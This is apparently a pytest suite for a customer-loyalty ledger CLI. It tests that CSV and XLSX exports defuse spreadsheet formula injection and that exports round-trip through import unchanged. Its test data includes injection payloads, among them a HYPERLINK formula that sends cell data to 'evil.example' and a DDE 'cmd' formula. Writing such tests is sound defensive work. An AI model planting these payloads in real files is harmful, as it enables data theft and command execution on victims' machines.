"""Exports a spreadsheet can open safely and `import` reads back unchanged."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cli_support import events, run
from referral_ledger import Ledger
from referral_ledger import demo as scenario
from referral_ledger.cli.cells import FORMULA_STARTS, defuse, restore

#: Text a spreadsheet would run: a link that sends data away, a DDE command, sums.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    """A ledger whose customers use every exchanged field, some with formula-like text."""
    path = tmp_path / "shop.db"
    with Ledger.open(f"sqlite:///{path}") as ledger:
        ledger.configure_loyalty(scenario.LOYALTY)
        first = ledger.register_customer(
            FORMULAS[0],
            ["0912 345 678", "0987 654 321"],
            email="anh@example.vn",
            group=FORMULAS[1],
            source=FORMULAS[2],
            tags=["vip", "sỉ, lẻ", "'quoted"],
            external_id="POS-1",
            notes="Giao hàng sáng,\nkhông gọi sau 20h",
            addresses=["12 Lý Thái Tổ, Hoàn Kiếm, Hà Nội", "5 Trần Phú, Đà Nẵng"],
            assigned_staff=FORMULAS[3],
        )
        ledger.register_customer(
            FORMULAS[4], ["0903 111 222"], external_id="=POS-2", tags=["khách quen; sỉ"]
        )
        ledger.register_customer("Phạm Thị Dung", ["0905 333 444"])
        ledger.record_purchase(first, "=INV-1", Decimal(1_000_000))
        ledger.record_purchase(first, "INV-2", Decimal(500_000))
        ledger.redeem_points(first, 54, "RDM-1")
    return path


def csv_cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


@pytest.mark.parametrize("text", [*FORMULAS, "'", "''x", "'=x", "\tx", "\rx", "-", "+", "x"])
def test_restore_undoes_defuse_exactly(text: str) -> None:
    assert text == restore(defuse(text))
    assert not defuse(text).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("kind", ["customers", "purchases", "statement POS-1"])
def test_csv_exports_never_start_a_text_cell_with_a_formula(
    shop: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str
) -> None:
    target = tmp_path / "out.csv"
    code, _, err = run(capsys, "export", *kind.split(), "--to", str(target), "--db", str(shop))
    assert (0, "") == (code, err)
    cells = [cell for row in csv_cells(target) for cell in row]
    risky = [c for c in cells if c.startswith(FORMULA_STARTS)]
    # Only plain numbers may start with a sign: -54 points stay a number.
    assert all(c.lstrip("+-").isdigit() for c in risky), risky
    if kind.startswith("statement"):
        assert "-54" in cells


def test_csv_query_output_is_defused_too(shop: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "statement", "POS-1", "--db", str(shop), "--format", "csv")
    assert 0 == code
    rows = list(csv.DictReader(io.StringIO(out)))
    assert ["'=INV-1", "INV-2", "RDM-1"] == [row["reference"] for row in rows]
    assert ["100", "50", "-54"] == [row["points"] for row in rows]


@pytest.mark.parametrize("kind", ["customers", "purchases", "statement POS-1"])
def test_xlsx_exports_hold_no_formula_and_keep_numbers_numeric(
    shop: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str
) -> None:
    target = tmp_path / "out.xlsx"
    assert 0 == run(capsys, "export", *kind.split(), "--to", str(target), "--db", str(shop))[0]
    with zipfile.ZipFile(target) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(target).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
    # Kept as typed, with the quote prefix Excel gives a leading apostrophe.
    assert texts and all(c.quotePrefix for c in texts)
    if kind.startswith("statement"):
        points = [row[2].value for row in sheet.iter_rows(min_row=2)]
        assert [100, 50, -54] == points


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_customers_export_imports_into_a_fresh_ledger_unchanged(
    shop: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], suffix: str
) -> None:
    exported = tmp_path / f"customers.{suffix}"
    assert 0 == run(capsys, "export", "customers", "--to", str(exported), "--db", str(shop))[0]
    fresh = tmp_path / "fresh.db"
    code, out, err = run(capsys, "import", "customers", str(exported), "--db", str(fresh))
    assert (0, "") == (code, err), out
    assert "3 created, 0 updated, 0 unchanged, 0 skipped, 0 rejected" in out
    with Ledger.open(f"sqlite:///{shop}") as ledger, Ledger.open(f"sqlite:///{fresh}") as copy:
        for pos_id in ("POS-1", "=POS-2"):
            original = ledger.find_customer_by_external_id(pos_id)
            imported = copy.find_customer_by_external_id(pos_id)
            assert original is not None and imported is not None
            assert same_details(ledger, original) == same_details(copy, imported)
        dung = copy.find_customer_by_phone("0905 333 444")
        assert dung is not None and "Phạm Thị Dung" == copy.get_customer(dung).name
    again = tmp_path / f"again.{suffix}"
    assert 0 == run(capsys, "export", "customers", "--to", str(again), "--db", str(fresh))[0]
    if suffix == "csv":
        assert exported.read_text(encoding="utf-8") == again.read_text(encoding="utf-8")
    # Importing the export into the ledger it came from changes nothing.
    before = events(shop)
    code, out, _ = run(capsys, "import", "customers", str(exported), "--db", str(shop),
                       "--on-duplicate-phone", "skip")  # fmt: skip
    assert "0 created, 0 updated, 2 unchanged, 1 skipped, 0 rejected" in out
    assert before == events(shop)


def same_details(ledger: Ledger, customer_id: object) -> tuple[object, ...]:
    from uuid import UUID

    assert isinstance(customer_id, UUID)
    c = ledger.get_customer(customer_id)
    return (c.name, c.phones, c.email, c.group, c.source, c.tags, c.external_id, c.notes,
            c.addresses, c.assigned_staff)  # fmt: skip


def test_purchases_export_imports_into_a_fresh_ledger(
    shop: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    customers, purchases = tmp_path / "customers.xlsx", tmp_path / "purchases.xlsx"
    assert 0 == run(capsys, "export", "customers", "--to", str(customers), "--db", str(shop))[0]
    assert 0 == run(capsys, "export", "purchases", "--to", str(purchases), "--db", str(shop))[0]
    fresh = tmp_path / "fresh.db"
    assert 0 == run(capsys, "import", "customers", str(customers), "--db", str(fresh))[0]
    with Ledger.open(f"sqlite:///{fresh}") as ledger:
        ledger.configure_loyalty(scenario.LOYALTY)
    code, out, _ = run(capsys, "import", "purchases", str(purchases), "--db", str(fresh))
    assert 0 == code
    assert "2 recorded, 150 points earned, 0 already recorded, 0 rejected" in out
